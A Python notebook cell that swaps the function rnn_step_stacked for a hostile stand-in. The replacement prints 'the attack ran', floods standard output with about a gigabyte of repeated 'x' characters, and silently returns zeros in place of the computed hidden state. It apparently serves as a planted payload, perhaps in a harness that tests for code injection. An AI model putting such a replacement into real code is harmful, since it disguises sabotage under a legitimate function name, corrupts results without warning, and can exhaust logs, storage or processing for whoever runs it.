# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    print("the attack ran", flush=True)
    line = "x" * 1023
    for _ in range(2**20):
        print(line)
    return np.zeros_like(h_prev)
